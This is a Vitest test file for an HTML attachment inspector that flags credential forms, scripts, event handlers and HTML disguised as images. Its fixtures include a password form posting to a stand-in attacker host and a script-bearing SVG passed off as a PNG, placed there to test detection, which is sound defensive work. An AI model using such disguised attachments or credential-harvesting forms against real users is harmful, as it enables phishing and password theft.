import { describe, expect, it } from 'vitest';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import { htmlTags, inspectHtml, looksLikeHtml } from './html.js';

describe('HTML attachments', () => {
  it('sees a password form posting to an external host', () => {
    const traits = inspectHtml(p.makeCredentialHtml());
    expect(traits.actionHosts).toEqual(['login.example.net']);
    expect(htmlTags(traits)).toEqual(['form', 'password', 'external-action']);
  });

  it('sees scripts and event handlers', () => {
    expect(htmlTags(inspectHtml(Buffer.from('<html><body><script>location="x"</script></body></html>')))).toEqual(['script']);
    expect(htmlTags(inspectHtml(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="go()"></svg>')))).toEqual(['event-handler']);
  });

  it('finds nothing in a plain HTML page', () => {
    expect(htmlTags(inspectHtml(Buffer.from('<html><body><p>Thông báo lịch họp</p><a href="https://lachan.test">x</a></body></html>')))).toEqual([]);
  });

  it('recognises HTML by name, declared type or first bytes', () => {
    expect(looksLikeHtml('htm', '', Buffer.alloc(0))).toBe(true);
    expect(looksLikeHtml('', 'text/html', Buffer.alloc(0))).toBe(true);
    expect(looksLikeHtml('dat', '', Buffer.from('\n  <!DOCTYPE html><html>'))).toBe(true);
    expect(looksLikeHtml('txt', 'text/plain', Buffer.from('hello'))).toBe(false);
    // an SVG (with its script) named and declared as a picture, behind an XML declaration, a comment and a DOCTYPE
    const svg = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: x -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>';
    expect(looksLikeHtml('png', 'image/png', Buffer.from(svg))).toBe(true);
    expect(looksLikeHtml('xml', 'application/xml', Buffer.from('<?xml version="1.0"?><invoice><total>5</total></invoice>'))).toBe(false);
  });

  it('reads a page once per buffer, and each buffer for itself', () => {
    const page = Buffer.from('<form action="https://evil.example/p"><input type="password"></form>');
    const first = inspectHtml(page);
    expect(inspectHtml(page)).toBe(first);
    const other = inspectHtml(Buffer.from('<p>hello</p>'));
    expect(other).not.toBe(first);
    expect([first.password, other.password]).toEqual([true, false]);
  });
});
